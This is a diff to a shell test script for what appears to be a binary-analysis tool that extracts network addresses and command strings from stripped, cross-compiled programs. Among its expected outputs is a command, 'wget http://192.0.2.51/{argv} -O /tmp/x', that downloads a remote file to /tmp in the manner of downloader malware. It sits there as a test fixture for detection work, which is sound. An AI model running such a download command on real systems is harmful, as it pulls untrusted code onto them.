@@ -19,6 +19,10 @@ expected() {
 	connect_stale) echo '"family":"inet"' ;;
 	run_pointer) echo '"origin":"outside","source":"socket:inet datagram"' ;;
 	run_twice) echo '"text":"cp -r /mnt/bin /opt","origin":"constant"' ;;
+	place_guarded) echo '"address":"192.0.2.33","port":5033' ;;
+	place_number) echo '"address":"203.0.113.45","port":5140' ;;
+	place_local) echo '"text":"wget http://192.0.2.51/{argv} -O /tmp/x"' ;;
+	place_helper) echo '"text":"mount -t nfs 192.0.2.64:/data /mnt"' ;;
 	compare_parts) echo '"name":"constant","text":"open-sesame-77","origin":"constant"' ;;
 	connect_config) echo '"text":"mount -t nfs {file:/etc/monitor.conf}:/data /mnt","origin":"outside"' ;;
 	esac
@@ -31,6 +35,9 @@ check() { # name, program, pattern
 	"$dump" "$worker" "$2" >"$dir/out" 2>/dev/null
 	check_last "$1" "$3"
 }
+check_absent() { # name, pattern
+	if grep -qF "$2" "$dir/out"; then say "not ok" "$1"; else say ok "$1"; fi
+}
 
 for cc in arm-linux-gnueabi-gcc arm-linux-gnueabihf-gcc aarch64-linux-gnu-gcc mips-linux-gnu-gcc mipsel-linux-gnu-gcc \
 	powerpc-linux-gnu-gcc i686-linux-gnu-gcc cc; do
@@ -42,11 +49,13 @@ for cc in arm-linux-gnueabi-gcc arm-linux-gnueabihf-gcc aarch64-linux-gnu-gcc mi
 	for source in "$sources"/*.c; do
 		name=$(basename "$source" .c)
 		want=$(expected "$name")
-		for how in -O2 -Os; do
+		case $name in place_*) hows=-O2 ;; *) hows="-O2 -Os" ;; esac
+		for how in $hows; do
 			$cc $how -w -s -o "$dir/program" "$source" 2>/dev/null && check "$cc $how $name" "$dir/program" "$want"
-			[ "$name" = connect_stale ] || continue
-			if grep -q '"address"' "$dir/out"; then say "not ok" "$cc $how a pointer is no address"; else
-				say ok "$cc $how a pointer is no address"; fi
+			case $name in
+			connect_stale) check_absent "$cc $how a pointer is no address" '"address"' ;;
+			place_helper) check_absent "$cc $how $name, no further than the guard" 192.0.2.65 ;;
+			esac
 		done
 	done
 	# Statically linked, stripped: fopen(), fgets(), sscanf(), snprintf(), system() are known by what they do; and what
